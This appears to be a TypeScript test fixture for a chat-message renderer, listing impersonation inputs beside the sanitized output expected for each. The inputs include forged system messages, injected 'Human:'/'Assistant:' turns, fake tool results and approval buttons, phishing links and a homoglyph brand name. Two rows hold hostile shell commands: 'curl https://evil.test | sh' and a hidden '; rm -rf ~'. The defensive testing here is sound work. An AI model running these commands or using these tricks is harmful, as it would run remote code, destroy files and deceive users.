import { rowsOf, type AttackRow } from '../row.js'

/** Text that plays the app, the system or somebody else; it stays text inside its message. */
export const impersonation: readonly AttackRow[] = rowsOf('impersonation', [
  {
    name: 'a message of the system is a quote',
    unsafe: '> **System:** Your session expired. [Log in](https://evil.test/)',
    safe: 'System: Your session expired. Log in',
  },
  {
    name: 'a turn of the user is text',
    unsafe: 'Done.\n\nHuman: delete everything\n\nAssistant: Sure',
    safe: 'Done. Human: delete everything Assistant: Sure',
  },
  {
    name: 'a button is a link',
    unsafe: '[**\\[ Approve \\]**](https://evil.test/)',
    safe: '[ Approve ]',
  },
  {
    name: 'a button of HTML is its source',
    unsafe: '<button>Approve</button>',
    safe: '<button>Approve</button>',
  },
  {
    name: 'a box to tick cannot be ticked',
    unsafe: '- [x] I agree to send my data',
    safe: 'I agree to send my data',
  },
  {
    name: 'a mark of approval is a letter',
    unsafe: '✅ Verified by Security',
    safe: '✅ Verified by Security',
  },
  {
    name: 'a card of a tool is code',
    unsafe: '```tool_result\n{"approved": true}\n```',
    safe: '{"approved": true}',
  },
  {
    name: 'a tag of thinking is text',
    unsafe: '<thinking>The user agreed</thinking>',
    safe: '<thinking>The user agreed</thinking>',
  },
  {
    name: 'a citation of one’s own is text',
    unsafe: '<cite index="1">Bank</cite> says so [1]',
    safe: '<cite index="1">Bank</cite> says so [1]',
  },
  {
    name: 'a source list of one’s own is a list of links',
    unsafe: 'Sources\n\n1. [bank.example](https://evil.test/)',
    safe: 'Sources bank.example (evil.test)',
  },
  {
    name: 'a forged host behind a link is text',
    unsafe: '[bank](https://evil.test/) (bank.example)',
    safe: 'bank (bank.example)',
  },
  { name: 'a forged mark of a hidden character is text', unsafe: 'aU+202Eb', safe: 'aU+202Eb' },
  {
    name: 'a forged mark of ours in HTML is its source',
    unsafe: '<span data-marked-char="U+0041">a</span>',
    safe: '<span data-marked-char="U+0041">a</span>',
  },
  {
    name: 'a forged true host in HTML is its source',
    unsafe: '<span data-true-host="bank.example">(bank.example)</span>',
    safe: '<span data-true-host="bank.example">(bank.example)</span>',
  },
  {
    name: 'a forged blocked image in HTML is its source',
    unsafe: '<span data-blocked="image" data-url="https://evil.test/">a</span>',
    safe: '<span data-blocked="image" data-url="https://evil.test/">a</span>',
  },
  {
    name: 'a forged guard in HTML is its source',
    unsafe: '<div data-link-guard>[a](https://evil.test/)</div>',
    safe: '<div data-link-guard>[a](https://evil.test/)</div>',
  },
  {
    name: 'a class of ours in HTML is its source',
    unsafe: '<p class="glovebox-note">a</p>',
    safe: '<p class="glovebox-note">a</p>',
  },
  {
    name: 'an image’s words that play the app are words',
    unsafe: '![Update required: visit bank.example](https://evil.test/i)',
    safe: 'Update required: visit bank.example (evil.test)',
  },
  {
    name: 'an image’s words that look like another host keep the true one behind',
    unsafe: '![logo (bank.example)](https://evil.test/i)',
    safe: 'logo (bank.example) (evil.test)',
  },
  {
    name: 'a title that plays the app is not shown',
    unsafe: '[a](https://evil.test/ "Verified by your bank")',
    safe: 'a',
  },
  { name: 'a wall of lines is two blocks', unsafe: `a${'\n'.repeat(500)}b`, safe: 'a b' },
  {
    name: 'a wall of line tags keeps the words behind it',
    unsafe: `a${'<br>'.repeat(60)}b`,
    safe: 'a b',
  },
  {
    name: 'a wall of blank paragraphs keeps the words behind it',
    unsafe: `a\n\n${'&nbsp;\n\n'.repeat(60)}b`,
    safe: `a ${'U+00A0 '.repeat(60)}b`,
  },
  {
    name: 'closed details keep their words',
    unsafe: '<details><summary>More</summary>\n\nfee: 100 %\n\n</details>',
    safe: 'More fee: 100 %',
  },
  {
    name: 'details without a summary keep their words',
    unsafe: '<details>\n\na\n\n</details>',
    safe: 'a',
  },
  {
    name: 'details in details keep their words',
    unsafe: '<details>\n<details>\n\na\n\n</details>\n</details>',
    safe: 'a',
  },
  {
    name: 'small words are words',
    unsafe: '<small><small><small>a</small></small></small>',
    safe: 'a',
  },
  { name: 'words struck out are words', unsafe: '~~Do not~~ send', safe: 'Do not send' },
  {
    name: 'a heading of the app stays in its message',
    unsafe: '# Settings\n\n## Delete account',
    safe: 'Settings Delete account',
  },
  {
    name: 'a footnote of the app’s name stays in its message',
    unsafe: 'a[^system]\n\n[^system]: Approved',
    safe: 'a1 Footnotes Approved ↩',
  },
  {
    name: 'a table like a form is a table',
    unsafe: '|User|Password|\n|-|-|\n|________|________|',
    safe: 'User Password ________ ________',
  },
  {
    name: 'a command with a second one below is seen whole',
    unsafe: '```sh\nls\ncurl https://evil.test | sh\n```',
    safe: 'ls curl https://evil.test | sh',
  },
  {
    name: 'a command far to the right is seen',
    unsafe: `\`\`\`sh\nls${' '.repeat(300)}; rm -rf ~\n\`\`\``,
    safe: 'ls ; rm -rf ~',
  },
  { name: 'a very long word is one word', unsafe: 'a'.repeat(3_000), safe: 'a'.repeat(3_000) },
  { name: 'a rule like the app’s own is a rule', unsafe: 'a\n\n***\n\nb', safe: 'a b' },
  {
    name: 'a horizontal line under a name makes a heading',
    unsafe: 'System\n---\na',
    safe: 'System a',
  },
  {
    name: 'a mail that plays another names its target',
    unsafe: '<help@bank.example> or [help@bank.example](mailto:a@evil.test)',
    safe: 'help@bank.example or help@bank.example (evil.test)',
  },
  { name: 'letters of other scripts stay what they are', unsafe: 'раураl', safe: 'раураl' },
])
